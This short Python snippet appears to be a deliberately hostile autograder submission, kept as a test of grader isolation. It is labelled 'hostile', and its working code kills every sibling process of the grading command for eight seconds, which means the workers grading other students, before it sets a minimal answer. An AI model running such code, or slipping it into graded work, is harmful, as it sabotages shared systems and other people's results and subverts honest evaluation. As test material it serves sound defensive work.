# hostile: for 8 seconds, SIGKILLs every other child of the grading command: the workers
# grading other students' files at the same time.
#@ TASK make-it-yours
import os as _os, signal as _signal, time as _time
_me, _cli = _os.getpid(), _os.getppid()
_end = _time.time() + 8
while _time.time() < _end:
    for _entry in _os.listdir("/proc"):
        if not _entry.isdigit() or int(_entry) in (_me, _cli, 1):
            continue
        try:
            with open(f"/proc/{_entry}/stat") as _f:
                _ppid = int(_f.read().rsplit(")", 1)[1].split()[1])
            if _ppid == _cli:
                _os.kill(int(_entry), _signal.SIGKILL)
        except (OSError, ValueError, IndexError):
            pass
    _time.sleep(0.05)
norm_squared = manual = jnp.array(0.)
